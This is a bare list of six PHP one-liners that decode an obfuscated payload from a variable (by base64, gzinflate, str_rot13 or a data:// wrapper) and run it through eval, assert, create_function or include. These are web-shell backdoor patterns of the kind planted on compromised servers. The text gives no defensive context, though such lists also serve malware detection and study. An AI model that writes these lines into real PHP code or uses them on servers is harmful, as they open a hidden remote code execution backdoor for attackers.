<?php eval(base64_decode($p)); ?>
<?php assert(base64_decode($p)); ?>
<?php $f = create_function('', base64_decode($p)); $f(); ?>
<?php eval(gzinflate(base64_decode($p))); ?>
<?php eval(str_rot13(gzinflate(base64_decode($p)))); ?>
<?php include('data://text/plain;base64,' . $p); ?>
